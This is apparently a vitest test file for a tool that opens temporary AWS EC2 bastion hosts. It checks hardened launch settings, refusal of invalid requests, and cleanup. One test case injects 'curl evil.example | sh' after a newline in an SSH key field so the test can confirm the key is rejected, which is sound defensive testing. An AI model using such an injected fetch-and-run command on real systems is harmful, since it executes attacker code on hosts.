import { CloudFormationClient, DescribeStacksCommand } from '@aws-sdk/client-cloudformation';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateSecurityGroupCommand,
  CreateTagsCommand,
  DeleteSecurityGroupCommand,
  DescribeInstancesCommand,
  EC2Client,
  RevokeSecurityGroupEgressCommand,
  RunInstancesCommand,
  TerminateInstancesCommand,
} from '@aws-sdk/client-ec2';
import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
import { PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { GetParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { cfn, ec2, events, s3, ssm } from '#shared/aws.ts';
import { BastionRefusedError } from '#shared/bastion/input.ts';
import { type OpenBastionResult, openBastion } from '#shared/bastion/open.ts';
import { logger } from '#shared/logger.ts';
import { parseManifestOrThrow } from '#shared/manifest/index.ts';
import type { StatusDocument } from '#shared/status.ts';
import { FakeS3 } from './fake-cloud.ts';
import { BUCKET, openRecord, readyStatus } from './helpers.ts';
import { ED25519, RSA_1024 } from './keys.ts';

const ec2Mock = mockClient(EC2Client);
const ssmMock = mockClient(SSMClient);
const s3Mock = mockClient(S3Client);
const cfnMock = mockClient(CloudFormationClient);
const eventsMock = mockClient(EventBridgeClient);

const NOW = new Date('2026-11-26T07:00:00.000Z');
const PROFILE = 'arn:aws:iam::123456789012:instance-profile/stackdrop-BastionInstanceProfile-ABC';
const STATUS_KEY = 'status/acme-production.json';
const MANIFEST_KEY = 'manifests/acme-production.yaml';
const PARSED_KEY = 'parsed/acme-production/v-3.json';
const INSTANCE = 'i-0abcdef1234567890';
const WRITER = 'acme-production.cluster-c1a2b3c4d5e6.eu-west-1.rds.amazonaws.com';
const KEY = ED25519.split(' ').slice(0, 2).join(' ');

const MUTATING = [
  RunInstancesCommand,
  CreateSecurityGroupCommand,
  AuthorizeSecurityGroupIngressCommand,
  CreateTagsCommand,
  DeleteSecurityGroupCommand,
  RevokeSecurityGroupEgressCommand,
  TerminateInstancesCommand,
] as const;

let store: FakeS3;

/** The parsed copy record-status keeps of the manifest version the status document names. */
function manifest(bastion: string): string {
  const yaml = `version: 1\nproject: acme\nenvironment: production\napp: { allowPlainHttp: true }\nbastion: ${bastion}\n`;
  return JSON.stringify({
    key: MANIFEST_KEY,
    versionId: 'v-3',
    manifest: parseManifestOrThrow(yaml, MANIFEST_KEY),
  });
}

function deps() {
  return {
    ec2,
    ssm,
    s3,
    cfn,
    events,
    logger,
    now: () => NOW,
    bucket: BUCKET,
    instanceProfileArn: PROFILE,
    region: 'eu-west-1',
    sleep: async () => {},
    addressAttempts: 3,
  };
}

const sshRequest = {
  project: 'acme',
  environment: 'production',
  ttlMinutes: 60,
  access: 'ssh',
  sshPublicKey: ED25519,
  callerCidr: '203.0.113.7',
  openedBy: 'arn:aws:iam::123456789012:user/jane',
};
const ssmRequest = { ...sshRequest, access: 'ssm', sshPublicKey: undefined, callerCidr: '203.0.113.7/32' };

function mutatingCalls(): string[] {
  return ec2Mock
    .calls()
    .filter((call) => MUTATING.some((command) => call.args[0] instanceof command))
    .map((call) => (call.args[0] as object).constructor.name);
}

function expectNothingCreated(): void {
  expect(mutatingCalls()).toEqual([]);
  expect(store.puts).toBe(0);
  expect(eventsMock).not.toHaveReceivedCommand(PutEventsCommand);
}

async function refusalOf(request: unknown): Promise<BastionRefusedError> {
  const error = await openBastion(request, deps()).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(BastionRefusedError);
  return error as BastionRefusedError;
}

function userDataOf(call = 0): string {
  const input = ec2Mock.commandCalls(RunInstancesCommand)[call]!.args[0].input;
  return Buffer.from(input.UserData!, 'base64').toString('utf8');
}

beforeEach(() => {
  ec2Mock.reset();
  ssmMock.reset();
  s3Mock.reset();
  cfnMock.reset();
  eventsMock.reset();
  store = new FakeS3();
  store.install(s3Mock);
  store.put(STATUS_KEY, JSON.stringify(readyStatus()));
  store.put(PARSED_KEY, manifest('{ access: ssh, allowedCidrs: [203.0.113.0/24], maxTtlMinutes: 240 }'));
  cfnMock.on(DescribeStacksCommand, { StackName: 'stackdrop-acme-production-network' }).resolves({
    Stacks: [
      {
        StackName: 'stackdrop-acme-production-network',
        StackStatus: 'CREATE_COMPLETE',
        CreationTime: NOW,
        Outputs: [
          { OutputKey: 'VpcId', OutputValue: 'vpc-0123' },
          { OutputKey: 'PublicSubnetIds', OutputValue: 'subnet-pub-a,subnet-pub-b' },
          { OutputKey: 'BastionSecurityGroupId', OutputValue: 'sg-bastion' },
        ],
      },
    ],
  });
  cfnMock.on(DescribeStacksCommand, { StackName: 'stackdrop-acme-production-database' }).resolves({
    Stacks: [
      {
        StackName: 'stackdrop-acme-production-database',
        StackStatus: 'UPDATE_COMPLETE',
        CreationTime: NOW,
        Outputs: [
          { OutputKey: 'WriterEndpoint', OutputValue: WRITER },
          { OutputKey: 'Port', OutputValue: '3306' },
        ],
      },
    ],
  });
  ssmMock.on(GetParameterCommand).resolves({ Parameter: { Value: 'ami-0123456789abcdef0' } });
  ec2Mock.on(CreateSecurityGroupCommand).resolves({ GroupId: 'sg-access' });
  ec2Mock.on(AuthorizeSecurityGroupIngressCommand).resolves({ Return: true });
  ec2Mock.on(RevokeSecurityGroupEgressCommand).resolves({ Return: true });
  ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: INSTANCE }] });
  ec2Mock
    .on(DescribeInstancesCommand)
    .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: INSTANCE }] }] })
    .resolves({
      Reservations: [{ Instances: [{ InstanceId: INSTANCE, PublicIpAddress: '198.51.100.20' }] }],
    });
  eventsMock.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'e-1' }] });
});

describe('open-bastion refuses, creating nothing', () => {
  it.each([
    ['a TTL above maxTtlMinutes', { ttlMinutes: 241 }, 'TTL_TOO_LONG'],
    ['a TTL of zero', { ttlMinutes: 0 }, 'TTL_INVALID'],
    ['a negative TTL', { ttlMinutes: -30 }, 'TTL_INVALID'],
    ['a fractional TTL', { ttlMinutes: 1.5 }, 'INVALID_REQUEST'],
    ['a caller outside allowedCidrs', { callerCidr: '198.51.100.7' }, 'CIDR_NOT_ALLOWED'],
    ['0.0.0.0/0', { callerCidr: '0.0.0.0/0' }, 'CIDR_TOO_WIDE'],
    ['a range wider than allowedCidrs', { access: 'ssm', callerCidr: '203.0.112.0/22' }, 'CIDR_TOO_WIDE'],
    ['ssh to a whole range', { callerCidr: '203.0.113.0/24' }, 'CIDR_TOO_WIDE'],
    ['ssh without a public key', { sshPublicKey: undefined }, 'SSH_KEY_MISSING'],
    ['ssh with a malformed key', { sshPublicKey: 'ssh-ed25519 AAAA not-a-key' }, 'SSH_KEY_INVALID'],
    ['ssh with a weak RSA key', { sshPublicKey: RSA_1024 }, 'SSH_KEY_INVALID'],
    [
      'ssh with a key that smuggles a command',
      { sshPublicKey: `${ED25519}\ncurl evil.example | sh` },
      'SSH_KEY_INVALID',
    ],
    ['an access mode that does not exist', { access: 'rdp' }, 'INVALID_REQUEST'],
    ['a request without a project', { project: undefined }, 'INVALID_REQUEST'],
    ['an unexpected field', { instanceType: 'm7g.16xlarge' }, 'INVALID_REQUEST'],
  ])('%s', async (_label, change, code) => {
    const error = await refusalOf({ ...sshRequest, ...change });

    expect(error.code).toBe(code);
    expectNothingCreated();
  });

  it('an unknown project', async () => {
    const error = await refusalOf({ ...sshRequest, project: 'nobody' });

    expect(error.code).toBe('UNKNOWN_PROJECT');
    expect(error.message).toContain('stackdrop does not know project nobody/production');
    expectNothingCreated();
    expect(store.objects.has('status/nobody-production.json')).toBe(false);
  });

  it.each(['queued', 'provisioning', 'failed', 'destroying', 'destroyed'] as const)(
    'a project that is %s',
    async (phase) => {
      store.put(STATUS_KEY, JSON.stringify(readyStatus([], 'acme', phase)));

      const error = await refusalOf(sshRequest);

      expect(error.code).toBe('NOT_READY');
      expect(error.message).toContain(`is ${phase}`);
      expectNothingCreated();
    },
  );

  it('ssh when the manifest allows ssm only', async () => {
    store.put(PARSED_KEY, manifest('{ access: ssm, allowedCidrs: [203.0.113.0/24] }'));

    const error = await refusalOf(sshRequest);

    expect(error.code).toBe('ACCESS_NOT_ALLOWED');
    expectNothingCreated();
  });

  it('a project whose recorded manifest version has no parsed copy', async () => {
    store.objects.delete(PARSED_KEY);

    const error = await refusalOf(sshRequest);

    expect(error.code).toBe('NOT_READY');
    expect(error.message).toContain('deploy the manifest again');
    expectNothingCreated();
  });

  it('a project whose database stack is missing', async () => {
    cfnMock.on(DescribeStacksCommand, { StackName: 'stackdrop-acme-production-database' }).rejects(
      Object.assign(new Error('Stack with id stackdrop-acme-production-database does not exist'), {
        name: 'ValidationError',
      }),
    );

    const error = await refusalOf(sshRequest);

    expect(error.code).toBe('NOT_READY');
    expect(error.message).toContain('database stack has no WriterEndpoint output');
    expectNothingCreated();
  });
});

describe('open-bastion launches', () => {
  it('a hardened t4g.nano with exactly these parameters (ssm)', async () => {
    // Act
    const result = await openBastion(ssmRequest, deps());

    // Assess
    expect(ssmMock).toHaveReceivedCommandWith(GetParameterCommand, {
      Name: '/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64',
    });
    const input = ec2Mock.commandCalls(RunInstancesCommand)[0]!.args[0].input;
    const tags = [
      { Key: 'stackdrop:project', Value: 'acme' },
      { Key: 'stackdrop:environment', Value: 'production' },
      { Key: 'stackdrop:managed', Value: 'true' },
      { Key: 'stackdrop:expires-at', Value: '2026-11-26T08:00:00Z' },
    ];
    expect({ ...input, UserData: undefined, ClientToken: undefined }).toEqual({
      ImageId: 'ami-0123456789abcdef0',
      InstanceType: 't4g.nano',
      MinCount: 1,
      MaxCount: 1,
      IamInstanceProfile: { Arn: PROFILE },
      MetadataOptions: {
        HttpEndpoint: 'enabled',
        HttpTokens: 'required',
        HttpPutResponseHopLimit: 1,
        InstanceMetadataTags: 'disabled',
      },
      BlockDeviceMappings: [
        {
          DeviceName: '/dev/xvda',
          Ebs: { VolumeType: 'gp3', VolumeSize: 8, Encrypted: true, DeleteOnTermination: true },
        },
      ],
      InstanceInitiatedShutdownBehavior: 'terminate',
      CreditSpecification: { CpuCredits: 'standard' },
      NetworkInterfaces: [
        {
          DeviceIndex: 0,
          SubnetId: 'subnet-pub-a',
          Groups: ['sg-bastion'],
          AssociatePublicIpAddress: true,
          DeleteOnTermination: true,
        },
      ],
      UserData: undefined,
      ClientToken: undefined,
      TagSpecifications: [
        {
          ResourceType: 'instance',
          Tags: [
            ...tags,
            { Key: 'Name', Value: 'stackdrop-bastion-acme-production' },
            { Key: 'stackdrop:opened-by', Value: 'arn:aws:iam::123456789012:user/jane' },
            { Key: 'stackdrop:role', Value: 'bastion' },
            { Key: 'stackdrop:access', Value: 'ssm' },
          ],
        },
        { ResourceType: 'volume', Tags: tags },
        { ResourceType: 'network-interface', Tags: tags },
      ],
    });
    expect(input.ClientToken).toMatch(/^[0-9a-f-]{36}-subnet-pub-a$/);
    expect(userDataOf()).toContain('OnCalendar=2026-11-26 08:10:00 UTC');
    expect(userDataOf()).not.toContain('authorized_keys');
    expect(ec2Mock).not.toHaveReceivedCommand(CreateSecurityGroupCommand);
    expect(result).toEqual<OpenBastionResult>({
      instanceId: INSTANCE,
      project: 'acme',
      environment: 'production',
      access: 'ssm',
      expiresAt: '2026-11-26T08:00:00Z',
      database: { host: WRITER, port: 3306 },
      tunnelCommand: `aws ssm start-session --region eu-west-1 --target ${INSTANCE} --document-name AWS-StartPortForwardingSessionToRemoteHost --parameters host=${WRITER},portNumber=3306,localPortNumber=3306`,
      notes: expect.any(Array),
    });
  });

  it('an ssh bastion behind its own group with one port-22 rule from the caller /32', async () => {
    const result = await openBastion(sshRequest, deps());

    const groupTags = [
      { Key: 'stackdrop:project', Value: 'acme' },
      { Key: 'stackdrop:environment', Value: 'production' },
      { Key: 'stackdrop:managed', Value: 'true' },
      { Key: 'stackdrop:expires-at', Value: '2026-11-26T08:00:00Z' },
      { Key: 'stackdrop:role', Value: 'bastion-access' },
    ];
    const group = ec2Mock.commandCalls(CreateSecurityGroupCommand)[0]!.args[0].input;
    expect(group).toMatchObject({
      VpcId: 'vpc-0123',
      TagSpecifications: [{ ResourceType: 'security-group', Tags: groupTags }],
    });
    expect(group.GroupName).toMatch(/^stackdrop-bastion-acme-production-[0-9a-f]{8}$/);
    expect(ec2Mock).toHaveReceivedCommandWith(RevokeSecurityGroupEgressCommand, {
      GroupId: 'sg-access',
      IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
    });
    expect(ec2Mock).toHaveReceivedCommandWith(AuthorizeSecurityGroupIngressCommand, {
      GroupId: 'sg-access',
      IpPermissions: [
        {
          IpProtocol: 'tcp',
          FromPort: 22,
          ToPort: 22,
          IpRanges: [
            {
              CidrIp: '203.0.113.7/32',
              Description: 'stackdrop bastion ssh for acme/production until 2026-11-26T08:00:00Z',
            },
          ],
        },
      ],
      TagSpecifications: [{ ResourceType: 'security-group-rule', Tags: groupTags }],
    });
    const run = ec2Mock.commandCalls(RunInstancesCommand)[0]!.args[0].input;
    expect(run.NetworkInterfaces?.[0]?.Groups).toEqual(['sg-bastion', 'sg-access']);
    expect(run.TagSpecifications?.[0]?.Tags).toContainEqual({
      Key: 'stackdrop:access-group',
      Value: 'sg-access',
    });
    expect(userDataOf()).toContain(`'${KEY}' >>/home/ec2-user/.ssh/authorized_keys`);
    expect(userDataOf()).not.toContain('dev@laptop');
    expect(result.address).toBe('198.51.100.20');
    expect(result.accessGroupId).toBe('sg-access');
    expect(result.tunnelCommand).toBe(`ssh -N -L 3306:${WRITER}:3306 ec2-user@198.51.100.20`);
    expect(mutatingCalls()).toEqual([
      'CreateSecurityGroupCommand',
      'RevokeSecurityGroupEgressCommand',
      'AuthorizeSecurityGroupIngressCommand',
      'RunInstancesCommand',
    ]);
  });

  it('records the bastion as open in the status document and emits Bastion Opened', async () => {
    store.put(
      STATUS_KEY,
      JSON.stringify(readyStatus([openRecord('i-0older0000000000a', '2026-11-26T07:30:00.000Z')])),
    );

    await openBastion(sshRequest, deps());

    const doc = store.json(STATUS_KEY) as StatusDocument;
    expect(doc.bastions).toHaveLength(2);
    expect(doc.bastions[1]).toEqual({
      instanceId: INSTANCE,
      access: 'ssh',
      openedBy: 'arn:aws:iam::123456789012:user/jane',
      callerCidr: '203.0.113.7/32',
      openedAt: '2026-11-26T07:00:00.000Z',
      expiresAt: '2026-11-26T08:00:00.000Z',
      state: 'open',
      address: '198.51.100.20',
    });
    const entry = eventsMock.commandCalls(PutEventsCommand)[0]!.args[0].input.Entries![0]!;
    expect(entry).toMatchObject({ Source: 'stackdrop', DetailType: 'Bastion Opened' });
    expect(JSON.parse(entry.Detail!)).toEqual({
      project: 'acme',
      environment: 'production',
      instanceId: INSTANCE,
      access: 'ssh',
      expiresAt: '2026-11-26T08:00:00Z',
      openedBy: 'arn:aws:iam::123456789012:user/jane',
    });
  });

  it('tunnels to the PostgreSQL port when the database listens there', async () => {
    cfnMock.on(DescribeStacksCommand, { StackName: 'stackdrop-acme-production-database' }).resolves({
      Stacks: [
        {
          StackName: 'db',
          StackStatus: 'CREATE_COMPLETE',
          CreationTime: NOW,
          Outputs: [
            { OutputKey: 'WriterEndpoint', OutputValue: WRITER },
            { OutputKey: 'Port', OutputValue: '5432' },
          ],
        },
      ],
    });

    const result = await openBastion(ssmRequest, deps());

    expect(result.tunnelCommand).toContain(`host=${WRITER},portNumber=5432,localPortNumber=5432`);
  });

  it('tries the next public subnet when the first AZ has no t4g.nano capacity', async () => {
    ec2Mock
      .on(RunInstancesCommand)
      .rejectsOnce(Object.assign(new Error('no capacity'), { name: 'InsufficientInstanceCapacity' }))
      .resolves({ Instances: [{ InstanceId: INSTANCE }] });

    await openBastion(ssmRequest, deps());

    const subnets = ec2Mock
      .commandCalls(RunInstancesCommand)
      .map((c) => c.args[0].input.NetworkInterfaces?.[0]?.SubnetId);
    expect(subnets).toEqual(['subnet-pub-a', 'subnet-pub-b']);
  });

  it('deletes the access group and records nothing when the launch fails', async () => {
    ec2Mock
      .on(RunInstancesCommand)
      .rejects(Object.assign(new Error('not authorized'), { name: 'UnauthorizedOperation' }));
    ec2Mock.on(DeleteSecurityGroupCommand).resolves({});

    await expect(openBastion(sshRequest, deps())).rejects.toThrow('not authorized');

    expect(ec2Mock).toHaveReceivedCommandWith(DeleteSecurityGroupCommand, { GroupId: 'sg-access' });
    expect(store.puts).toBe(0);
    expect(eventsMock).not.toHaveReceivedCommand(PutEventsCommand);
  });

  it('still returns the bastion when the status document cannot be written', async () => {
    s3Mock
      .on(PutObjectCommand)
      .rejects(Object.assign(new Error('We encountered an internal error'), { name: 'InternalError' }));

    const result = await openBastion(ssmRequest, deps());

    expect(result.instanceId).toBe(INSTANCE);
    expect(result.notes).toContain(
      'The bastion could not be recorded in the status document; it still expires on time.',
    );
    expect((store.json(STATUS_KEY) as StatusDocument).bastions).toEqual([]);
    expect(eventsMock).toHaveReceivedCommand(PutEventsCommand);
  });

  it('returns without the address when EC2 has not assigned it yet', async () => {
    ec2Mock
      .on(DescribeInstancesCommand)
      .resolves({ Reservations: [{ Instances: [{ InstanceId: INSTANCE }] }] });

    const result = await openBastion(sshRequest, deps());

    expect(ec2Mock).toHaveReceivedCommandTimes(DescribeInstancesCommand, 3);
    expect(result.address).toBeUndefined();
    expect(result.tunnelCommand).toBe(`ssh -N -L 3306:${WRITER}:3306 ec2-user@<public-ip>`);
  });
});

describe('open-bastion handler', () => {
  afterEach(() => {
    vi.unstubAllEnvs();
  });

  it('opens a bastion from a Lambda Invoke payload', async () => {
    vi.stubEnv('STATE_BUCKET', BUCKET);
    vi.stubEnv('BASTION_INSTANCE_PROFILE_ARN', PROFILE);
    const { handler } = await import('#functions/open-bastion/index.ts');

    const result = await handler(ssmRequest);

    expect(result.instanceId).toBe(INSTANCE);
    expect(ec2Mock).toHaveReceivedCommandWith(RunInstancesCommand, { IamInstanceProfile: { Arn: PROFILE } });
  });
});
